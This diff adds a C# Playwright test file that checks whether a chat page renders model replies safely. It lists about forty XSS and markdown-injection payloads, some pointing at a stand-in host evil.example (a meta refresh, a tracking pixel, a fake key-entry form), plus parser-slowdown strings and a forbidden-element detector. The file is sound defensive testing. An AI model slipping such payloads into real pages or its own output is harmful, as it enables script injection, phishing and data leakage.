@@ -1,0 +1,145 @@
+using static Microsoft.Playwright.Assertions;
+
+namespace LambdaChat.FunctionalTests.Page;
+
+/// <summary>Text of a model is hostile: whatever it says stays text, or becomes one of the few elements that the page makes itself.</summary>
+public sealed class HostileTextTests(PageFixture fixture)
+{
+    private static readonly string[] Attacks =
+    [
+        "<script>window.hacked = 1</script>",
+        "<img src=x onerror=\"window.hacked = 1\">",
+        "<svg onload=\"window.hacked = 1\"><animate onbegin=alert(1)></svg>",
+        "<iframe src=\"javascript:parent.hacked = 1\"></iframe>",
+        "<a href=\"javascript:window.hacked = 1\">click</a>",
+        "<style>body { display: none }</style>",
+        "<base href=\"https://evil.example/\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+        "<details open ontoggle=window.hacked=1>",
+        "[click](javascript:window.hacked=1)",
+        "[click]( javascript:window.hacked=1)",
+        "[click](JaVaScRiPt:window.hacked=1)",
+        "[click](java\tscript:window.hacked=1)",
+        "[click](&#106;avascript:window.hacked=1)",
+        "[click](data:text/html,<script>window.hacked=1</script>)",
+        "[click](vbscript:msgbox(1))",
+        "[click](//evil.example/relative)",
+        "[click](https://evil.example/ok \"onmouseover=window.hacked=1\")",
+        "[a](https://evil.example/\"onmouseover=\"window.hacked=1)",
+        "<javascript:window.hacked=1>",
+        "<https://evil.example/\"><img/src=x/onerror=window.hacked=1>",
+        "![pixel](https://evil.example/pixel.png?secret)",
+        "![pixel](data:image/svg+xml,<svg onload=window.hacked=1>)",
+        "[![nested](https://evil.example/a.png)](javascript:window.hacked=1)",
+        "[ref]\n\n[ref]: javascript:window.hacked=1",
+        "`<img src=x onerror=window.hacked=1>`",
+        "```html\n<script>window.hacked = 1</script>\n```",
+        "```\"><img src=x onerror=window.hacked=1>\ncode\n```",
+        "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [x](javascript:window.hacked=1) | <script>window.hacked=1</script> |",
+        "# <img src=x onerror=window.hacked=1>",
+        "- <script>window.hacked=1</script>\n  > <img src=x onerror=window.hacked=1>",
+        "$$<img src=x onerror=window.hacked=1>$$",
+        "\\(<img src=x onerror=window.hacked=1>\\)",
+        "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} <%= 1 %>",
+        "https://evil.example/\u202Egpj.exe and http://user:pass@evil.example/",
+        "</div></article><script>window.hacked=1</script>",
+        "\0<scr\0ipt>window.hacked=1</script>",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
+        "<form action=https://evil.example><input name=key><button>Enter your key</button></form>",
+        "<object data=https://evil.example></object><embed src=https://evil.example><link rel=stylesheet href=https://evil.example>",
+    ];
+
+    // Texts that make a careless parser take minutes.
+    private static readonly string[] Bombs =
+    [
+        new('*', 20_000),
+        new('[', 20_000),
+        new('`', 20_001),
+        new('>', 5_000),
+        string.Concat(Enumerable.Repeat("*a ", 7_000)),
+        string.Concat(Enumerable.Repeat("**a *b ", 3_000)),
+        string.Concat(Enumerable.Repeat("[a](", 5_000)),
+        string.Concat(Enumerable.Repeat("![", 10_000)),
+        string.Concat(Enumerable.Repeat("- ", 5_000)),
+        string.Concat(Enumerable.Repeat("`a ``b ", 3_000)),
+        string.Concat(Enumerable.Repeat("$a ", 7_000)),
+        string.Concat(Enumerable.Repeat("\\(", 10_000)),
+        string.Concat(Enumerable.Repeat("|", 6_000)) + "\n" + string.Concat(Enumerable.Repeat("|-", 6_000)),
+        string.Concat(Enumerable.Repeat("_a", 10_000)),
+        string.Concat(Enumerable.Repeat("https://a", 2_500)),
+    ];
+
+    [Fact]
+    public async Task Reply_OfAttacks_StaysText()
+    {
+        await using var page = await fixture.OpenAsync();
+        var foreign = new List<string>();
+        page.Page.Request += (_, request) =>
+        {
+            if (!request.Url.StartsWith(fixture.Url.ToString(), StringComparison.Ordinal))
+            {
+                foreign.Add(request.Url);
+            }
+        };
+        await page.SayAsync(string.Join("\n\n", Attacks), string.Join("\n\n", Attacks));
+
+        await page.AskAsync(Attacks[0]);
+        await page.Thinking.Locator("summary").ClickAsync();
+
+        await Expect(page.Answer).ToContainTextAsync("<script>window.hacked = 1</script>");
+        await Expect(page.Thinking).ToContainTextAsync("<img src=x onerror=\"window.hacked = 1\">");
+        Assert.Equal("undefined", await page.Page.EvaluateAsync<string>("typeof window.hacked"));
+        Assert.Empty(foreign);
+        Assert.Equal("[]", await FindForbiddenAsync(page));
+        foreach (var link in await page.Page.Locator("article a").AllAsync())
+        {
+            Assert.Equal("noopener noreferrer nofollow", await link.GetAttributeAsync("rel"));
+            Assert.Equal("_blank", await link.GetAttributeAsync("target"));
+            Assert.Matches("^(https?|mailto):", await link.GetAttributeAsync("href"));
+        }
+
+        Assert.Empty(page.Problems);
+    }
+
+    [Fact]
+    public async Task Text_OfBombs_IsDrawnQuickly()
+    {
+        await using var page = await fixture.OpenAsync();
+
+        // A bound that a parser of linear time keeps a hundred times over, and one of quadratic time with backtracking does not.
+        var slow = await page.Page.EvaluateAsync<string>(
+            """
+            async (bombs) => {
+              const { renderMarkdown } = await import("/assets/render.js");
+              const time = (text) => {
+                const times = [];
+                for (let i = 0; i < 3; i++) {
+                  const start = performance.now();
+                  renderMarkdown(document.createElement("div"), text);
+                  times.push(performance.now() - start);
+                }
+                return Math.min(...times);
+              };
+              return bombs.map((bomb) => [bomb.slice(0, 10), time(bomb)]).filter(([, ms]) => ms > 1000).join("; ");
+            }
+            """,
+            Bombs);
+
+        Assert.Equal("", slow);
+    }
+
+    // Elements and attributes that the page does not make for a message.
+    private static Task<string> FindForbiddenAsync(ChatPage page) => page.Page.EvaluateAsync<string>("""
+        () => {
+          const tags = "article,details,summary,div,p,h3,h4,h5,h6,ul,ol,li,blockquote,hr,pre,code,table,thead,tbody,tr,th,td,a,em,strong,del,span,button,svg,path,input".split(",");
+          const found = [];
+          for (const element of document.querySelectorAll("article.assistant, article.assistant *")) {
+            if (!tags.includes(element.localName)) found.push(element.localName);
+            for (const { name, value } of element.attributes) {
+              if (name.startsWith("on") || name === "src" || name === "style" || (name === "href" && !/^(https?|mailto):/.test(value))) found.push(`${element.localName} ${name}=${value}`);
+            }
+          }
+          return JSON.stringify(found);
+        }
+        """);
+}
